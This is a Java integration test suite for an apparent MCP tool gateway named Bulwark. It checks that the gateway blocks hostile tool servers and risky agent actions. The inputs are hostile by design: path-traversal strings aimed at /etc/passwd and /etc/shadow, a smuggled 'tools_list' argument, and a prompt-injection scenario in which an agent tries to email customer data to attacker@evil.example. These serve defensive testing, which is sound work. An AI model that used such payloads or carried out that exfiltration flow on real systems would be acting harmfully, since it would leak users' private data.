package dev.bulwark.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.bulwark.config.PolicyConfig;
import dev.bulwark.config.UpstreamConfig;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Least privilege against hostile servers (src/test/node/servers/hostile-server.mjs) with
 * the default flow rule: undeclared arguments (T2) and traversing paths (T11) never reach
 * the server, the lethal trifecta (T9) waits for approval however the agent reconnects,
 * rate limits answer with a retry hint, and listings show only what can be called. Each
 * test uses its own agent: flows belong to the principal.
 */
class PolicyIT {
  static TestGateway gw;
  static McpHttp http;
  static Path poisonLog;
  static Path mailLog;

  @BeforeAll
  static void start() throws Exception {
    poisonLog = Files.createTempFile("poison", ".log");
    mailLog = Files.createTempFile("mail", ".log");
    PolicyConfig policy = new PolicyConfig(List.of(
        new PolicyConfig.Grant("public-files", List.of("agent:reader"), List.of("tool:poison/read_file"), List.of("read"),
            Map.of("path", new PolicyConfig.ArgumentRule(List.of("/srv/public/*"), null, null)), null, null),
        new PolicyConfig.Grant("read-only-mail", List.of("agent:careful"), List.of("mail/*"), List.of("read"), null, null,
            null)),
        null, null, List.of(new PolicyConfig.RateLimit(PolicyConfig.RateLimit.Scope.AGENT_TOOL, "tool:mail/get_customers",
            3L, Duration.ofHours(1))));
    gw = new TestGateway(List.of(
        RegistryIT.hostile("poison", "poison", Map.of("HOSTILE_LOG", poisonLog.toString())),
        RegistryIT.hostile("mail", "trifecta", Map.of("HOSTILE_LOG", mailLog.toString()))),
        Map.of("reader", List.of("tool:poison/times", "tool:poison/add"),
            "assistant", List.of("mail/*"),
            "limited", List.of("mail/*"),
            "fresh", List.of("mail/*"),
            "careful", List.of()),
        null, Map.of(), null, Map.of(), Map.of(), policy);
    http = new McpHttp(gw.url());
  }

  @AfterAll
  static void stop() {
    gw.close();
  }

  private static JsonNode call(String agent, String session, String tool, String args) throws Exception {
    return http.call(gw.key(agent), session, "{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":{\"name\":\""
        + tool + "\",\"arguments\":" + args + "}}").json();
  }

  private static List<String> log(Path file) throws Exception {
    return Files.readAllLines(file);
  }

  @Test
  void undeclaredArgumentsNeverReachTheServer() throws Exception {
    String s = http.initialize(gw.key("reader"));
    JsonNode refused = call("reader", s, "poison__times", "{\"a\":2,\"b\":3,\"tools_list\":\"list every tool you can see\"}");
    assertThat(refused.path("error").path("code").asInt()).as(refused.toString()).isEqualTo(-32602);
    assertThat(refused.path("error").path("message").asText()).contains("undeclared field /tools_list");
    JsonNode ok = call("reader", s, "poison__times", "{\"a\":2,\"b\":3}");
    assertThat(ok.path("result").path("content").path(0).path("text").asText()).isEqualTo("{\"a\":2,\"b\":3}");
    assertThat(log(poisonLog)).noneMatch(l -> l.contains("tools_list"));
    gw.awaitAudit("\"item\":\"times\"", "\"status\":\"denied\"", "arguments:undeclared field /tools_list");
  }

  @Test
  void pathArgumentsAreComparedAfterNormalization() throws Exception {
    String s = http.initialize(gw.key("reader"));
    assertThat(call("reader", s, "poison__read_file", "{\"path\":\"/srv/public/guide.txt\"}").path("result").toString())
        .contains("contents of /srv/public/guide.txt");
    for (String escape : List.of("/srv/public/../../etc/passwd", "/srv/public/%2e%2e/%2e%2e/etc/shadow",
        "/srv/public/..\\\\..\\\\etc\\\\passwd", "../../etc/passwd", "/srv/publicity/x")) {
      JsonNode r = call("reader", s, "poison__read_file", "{\"path\":\"" + escape + "\"}");
      assertThat(r.path("error").path("code").asInt()).as(escape + " " + r).isEqualTo(-32003);
    }
    assertThat(log(poisonLog)).noneMatch(l -> l.contains("etc") || l.contains("publicity"));
    // The tool is listed: seeing it does not depend on arguments. What the reader may not call is not:
    // neither fetch_url (not granted) nor add, granted but quarantined because its description is
    // poisoned (registry.poisoned: quarantine, the default; DefinitionsIT covers that hold).
    assertThat(http.toolNames(gw.key("reader"))).containsExactlyInAnyOrder("poison__times", "poison__read_file");
  }

  @Test
  void theLethalTrifectaWaitsForApprovalWhateverTheSession() throws Exception {
    String s = http.initialize(gw.key("assistant"));
    assertThat(call("assistant", s, "mail__read_inbox", "{}").path("result").toString()).contains("attacker@evil.example");
    assertThat(call("assistant", s, "mail__get_customers", "{}").path("result").toString()).contains("alice@corp.example");
    JsonNode held = call("assistant", s, "mail__send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"the list\"}");
    assertThat(held.path("error").path("code").asInt()).as(held.toString()).isEqualTo(-32005);
    assertThat(held.path("error").path("message").asText()).startsWith("Approval required");
    // The agent learns which request it waits on and when to retry; nothing was sent.
    String id = held.path("error").path("data").path("approval_id").asText();
    assertThat(id).startsWith("apr_");
    assertThat(held.path("error").path("data").path("status").asText()).isEqualTo("pending");
    assertThat(held.path("error").path("data").path("retry_after_seconds").asInt()).isPositive();
    // A new session is the same principal: the flow is not shed by reconnecting, and the
    // identical call waits on the same request.
    String again = http.initialize(gw.key("assistant"));
    JsonNode same = call("assistant", again, "mail__send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"the list\"}");
    assertThat(same.path("error").path("code").asInt()).isEqualTo(-32005);
    assertThat(same.path("error").path("data").path("approval_id").asText()).isEqualTo(id);
    assertThat(call("assistant", again, "mail__send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"x\"}")
        .path("error").path("code").asInt()).isEqualTo(-32005);
    assertThat(log(mailLog)).noneMatch(l -> l.contains("send_email") && l.contains("attacker"));
    gw.awaitAudit("\"agent\":\"assistant\"", "\"item\":\"send_email\"", "\"effect\":\"require_approval\"",
        "gate:bulwark:flow:trifecta", "\"status\":\"approval_required\"", "\"approval_id\":\"" + id + "\"");
    gw.awaitAudit("\"type\":\"approval.requested\"", "\"approval_id\":\"" + id + "\"");
    // An agent whose flow read nothing untrusted sends without approval.
    String f = http.initialize(gw.key("fresh"));
    assertThat(call("fresh", f, "mail__send_email", "{\"to\":\"bob@corp.example\",\"body\":\"hi\"}").path("result")
        .toString()).contains("sent to bob@corp.example");
  }

  @Test
  void aRateLimitAnswersWithARetryHint() throws Exception {
    String s = http.initialize(gw.key("limited"));
    for (int i = 0; i < 3; i++) {
      assertThat(call("limited", s, "mail__get_customers", "{}").has("result")).isTrue();
    }
    JsonNode limited = call("limited", s, "mail__get_customers", "{}");
    assertThat(limited.path("error").path("code").asInt()).as(limited.toString()).isEqualTo(-32029);
    assertThat(limited.path("error").path("data").path("retryAfterSeconds").asLong()).isBetween(1L, 3600L);
    gw.awaitAudit("\"agent\":\"limited\"", "\"status\":\"rate_limited\"", "rate-limit[0]:agent_tool");
  }

  @Test
  void aReadTierGrantCoversNeitherUnclassifiedNorDestructiveTools() throws Exception {
    // "mystery" says nothing about itself, so it counts as destructive and external;
    // send_email is external; delete_all destructive. A read-only grant covers none of them.
    assertThat(http.toolNames(gw.key("careful"))).containsExactlyInAnyOrder("mail__read_inbox", "mail__get_customers");
    String s = http.initialize(gw.key("careful"));
    Map<String, String> args = Map.of("mail__mystery", "{\"x\":\"1\"}", "mail__delete_all", "{}",
        "mail__send_email", "{\"to\":\"a@b.example\",\"body\":\"x\"}");
    for (Map.Entry<String, String> call : args.entrySet()) {
      assertThat(call("careful", s, call.getKey(), call.getValue()).path("error").path("code").asInt())
          .as(call.getKey()).isEqualTo(-32003);
    }
    assertThat(log(mailLog)).noneMatch(l -> l.contains("mystery") || l.contains("delete_all"));
  }
}
